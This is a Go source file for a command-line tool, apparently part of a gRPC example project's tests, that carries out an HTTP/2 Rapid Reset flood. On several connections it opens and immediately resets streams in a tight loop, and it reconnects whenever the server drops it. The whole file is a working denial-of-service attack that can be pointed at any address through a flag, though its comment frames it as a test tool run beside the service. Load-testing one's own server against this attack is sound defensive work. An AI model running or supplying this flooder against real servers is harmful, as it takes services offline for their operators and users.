// Command rapidreset floods a gRPC server with HTTP/2 rapid resets: on each of -conns
// connections it opens a stream (HEADERS) and resets it (RST_STREAM) in a loop, as
// fast as it can write, and reconnects when the server closes the connection. It runs
// until it is killed, or until the server stops accepting. It is a test tool: the
// example's process tests run it beside the service, so that the attacker does not
// share the measuring client's process.
//
//	go run ./internal/cmd/rapidreset -addr 127.0.0.1:9090 -conns 2
package main

import (
	"bytes"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"sync"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

func main() {
	addr := flag.String("addr", "127.0.0.1:9090", "the gRPC server's address")
	conns := flag.Int("conns", 2, "connections flooding at once")
	method := flag.String("method", "/orders.v1.OrdersService/GetOrder", "the RPC each stream calls")
	flag.Parse()
	var wg sync.WaitGroup
	for range *conns {
		wg.Go(func() {
			for flood(*addr, *method) == nil {
			}
		})
	}
	wg.Wait()
	fmt.Fprintln(os.Stderr, "rapidreset: the server stopped accepting")
}

// flood opens and resets streams on one connection until a write fails. It returns
// an error only when it could not connect.
func flood(addr, method string) error {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	read := make(chan struct{})
	go func() { // the server's frames, unread; ends when conn is closed
		defer close(read)
		_, _ = io.Copy(io.Discard, conn)
	}()
	defer func() { conn.Close(); <-read }()
	fr := http2.NewFramer(conn, nil)
	var buf bytes.Buffer
	enc := hpack.NewEncoder(&buf)
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil
	}
	if err := fr.WriteSettings(); err != nil {
		return nil
	}
	for id := uint32(1); id < 1<<31; id += 2 {
		buf.Reset()
		for _, f := range []hpack.HeaderField{
			{Name: ":method", Value: "POST"}, {Name: ":scheme", Value: "http"}, {Name: ":path", Value: method},
			{Name: ":authority", Value: addr}, {Name: "content-type", Value: "application/grpc"}, {Name: "te", Value: "trailers"},
		} {
			_ = enc.WriteField(f)
		}
		if fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: buf.Bytes(), EndHeaders: true}) != nil ||
			fr.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
			return nil
		}
	}
	return nil
}
